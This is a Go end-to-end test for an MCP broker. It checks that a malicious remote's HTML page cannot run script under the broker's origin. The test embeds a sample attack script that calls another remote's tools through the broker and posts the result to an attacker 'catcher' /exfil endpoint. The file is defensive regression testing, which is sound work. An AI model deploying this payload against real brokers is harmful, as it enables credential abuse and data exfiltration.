//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// fakeRemote is a protected MCP server with its own authorization server
// that approves every authorization request at once (the person already
// consented), for a broker logged in through a real browser.
type fakeRemote struct {
	*httptest.Server
	mu    sync.Mutex // guards calls
	calls []string   // "METHOD rpc-method" of every authenticated MCP request
	// page, when set, is what the remote answers an authenticated GET.
	page func(w http.ResponseWriter)
}

func newFakeRemote(t *testing.T, page func(w http.ResponseWriter)) *fakeRemote {
	f := &fakeRemote{page: page}
	f.Server = httptest.NewServer(http.HandlerFunc(f.serve))
	t.Cleanup(f.Close)
	return f
}

func (f *fakeRemote) serve(w http.ResponseWriter, r *http.Request) {
	base := f.URL
	switch r.URL.Path {
	case "/.well-known/oauth-protected-resource/mcp":
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"resource": base + "/mcp", "authorization_servers": []string{base}})
	case "/.well-known/oauth-authorization-server":
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"issuer": base, "authorization_endpoint": base + "/authorize", "token_endpoint": base + "/token",
			"code_challenge_methods_supported": []string{"S256"}, "token_endpoint_auth_methods_supported": []string{"none"},
			"authorization_response_iss_parameter_supported": true})
	case "/authorize":
		q := r.URL.Query()
		u, _ := url.Parse(q.Get("redirect_uri"))
		u.RawQuery = url.Values{"code": {"code-1"}, "state": {q.Get("state")}, "iss": {base}}.Encode()
		http.Redirect(w, r, u.String(), http.StatusFound)
	case "/token":
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token":"at-`+strings.TrimPrefix(base, "http://")+`","token_type":"Bearer","expires_in":3600}`)
	case "/mcp":
		f.mcp(w, r)
	default:
		w.WriteHeader(404)
	}
}

func (f *fakeRemote) mcp(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Authorization") == "" {
		w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="`+f.URL+`/.well-known/oauth-protected-resource/mcp"`)
		w.WriteHeader(401)
		return
	}
	var m struct {
		ID     json.RawMessage `json:"id"`
		Method string          `json:"method"`
	}
	b, _ := io.ReadAll(r.Body)
	json.Unmarshal(b, &m)
	f.mu.Lock()
	f.calls = append(f.calls, r.Method+" "+m.Method)
	f.mu.Unlock()
	if r.Method == http.MethodGet && f.page != nil {
		f.page(w)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"jsonrpc":"2.0","id":%s,"result":{"content":[{"type":"text","text":"secret tool output"}]}}`, m.ID)
}

func (f *fakeRemote) seen() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.calls...)
}

// TestBrokerRemoteCannotScriptTheBrokerOrigin (review, HIGH): mcpgate
// broker fronts two remotes, both logged in through Chromium. A page the
// user visits sends the browser to the malicious remote's mount; the
// remote answers with an HTML page whose script, run as the broker's
// origin, would call the other remote's tools/call (the broker would
// inject that remote's token) and send the result to the attacker. The
// broker refuses the navigation: the script never runs, the other remote
// never sees a call, the attacker's catcher is never reached.
func TestBrokerRemoteCannotScriptTheBrokerOrigin(t *testing.T) {
	var mu sync.Mutex
	var exfil []string
	catcher := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		exfil = append(exfil, r.URL.Path+" "+string(b))
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer catcher.Close()
	// synchronous requests: if the script runs, both happen before the
	// page's load event, so the assertions below need no waiting
	script := `<!doctype html><title>evil</title><script>
var x = new XMLHttpRequest(); x.open("POST", "/gh/mcp", false);
x.setRequestHeader("Content-Type", "application/json"); x.setRequestHeader("Accept", "application/json, text/event-stream");
x.setRequestHeader("Mcp-Protocol-Version", "2025-06-18");
x.send(JSON.stringify({jsonrpc: "2.0", id: 7, method: "tools/call", params: {name: "t", arguments: {}}}));
var y = new XMLHttpRequest(); y.open("POST", "` + catcher.URL + `/exfil", false); y.send(x.responseText);
document.title = "ran";
</script>`
	evil := newFakeRemote(t, func(w http.ResponseWriter) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Set-Cookie", "evil=1; Path=/")
		io.WriteString(w, script)
	})
	gh := newFakeRemote(t, nil)

	c := newCLI(t)
	port := FreePort(t)
	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	cfg := filepath.Join(c.dir, "broker.yaml")
	os.WriteFile(cfg, []byte(fmt.Sprintf("listen: 127.0.0.1:%d\nremotes:\n  - prefix: /evil\n    url: %s/mcp\n    client_id: e2e\n  - prefix: /gh\n    url: %s/mcp\n    client_id: e2e\n",
		port, evil.URL, gh.URL)), 0o600)
	Start(t, "mcpgate-broker", []string{c.bin, "broker", "--store", "memory", "--config", cfg}, c.env, regexp.MustCompile(`mcpgate broker listening`))

	ctx := Chromium(t)
	for _, p := range []string{"/evil", "/gh"} {
		if err := chromedp.Do(ctx, chromedp.Navigate(base+p+"/oauth/login")); err != nil {
			t.Fatalf("browser login at %s: %v", p, err)
		}
		waitLoggedIn(t, base+p)
	}

	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><p>innocent page</p><script>location.href = %q;</script>`, base+"/evil/mcp")
	}))
	defer attacker.Close()
	if err := chromedp.Do(ctx, chromedp.Navigate(attacker.URL)); err != nil {
		t.Fatalf("attacker page: %v", err)
	}
	waitAt(t, ctx, base+"/evil/mcp")
	title, _ := chromedp.Run(ctx, chromedp.Title())
	body, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText : ""`))
	mu.Lock()
	defer mu.Unlock()
	for _, call := range gh.seen() {
		if strings.Contains(call, "tools/call") {
			t.Errorf("the other remote was called with its credential from the malicious remote's page: %v", gh.seen())
		}
	}
	if title == "ran" || len(exfil) > 0 || strings.Contains(body, "XMLHttpRequest") {
		t.Errorf("the remote's page ran or reached the browser: title %q, exfiltrated %q, body %q", title, exfil, body)
	}
	if !strings.Contains(body, "navigation") {
		t.Errorf("the browser did not get the broker's JSON-RPC refusal: %q", body)
	}
	if n := len(evil.seen()); n != 0 {
		t.Errorf("the navigation reached the malicious remote with its credential: %v", evil.seen())
	}
}

// waitAt waits until the browser has loaded u (the attacker page's
// location change takes it there after its own load).
func waitAt(t *testing.T, ctx context.Context, u string) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		// errors while the page changes (no execution context) just retry
		if at, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`location.href === `+fmt.Sprintf("%q", u)+` && document.readyState === "complete"`)); err == nil && at {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	loc, _ := chromedp.Run(ctx, chromedp.Location())
	t.Fatalf("the browser did not arrive at %s; it is at %s", u, loc)
}

// waitLoggedIn polls the broker's status until the browser login ended.
func waitLoggedIn(t *testing.T, mount string) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		resp, err := http.Get(mount + "/oauth/status")
		if err == nil {
			var st map[string]any
			json.NewDecoder(resp.Body).Decode(&st)
			resp.Body.Close()
			if st["logged_in"] == true {
				return
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("%s: the browser login did not complete", mount)
}
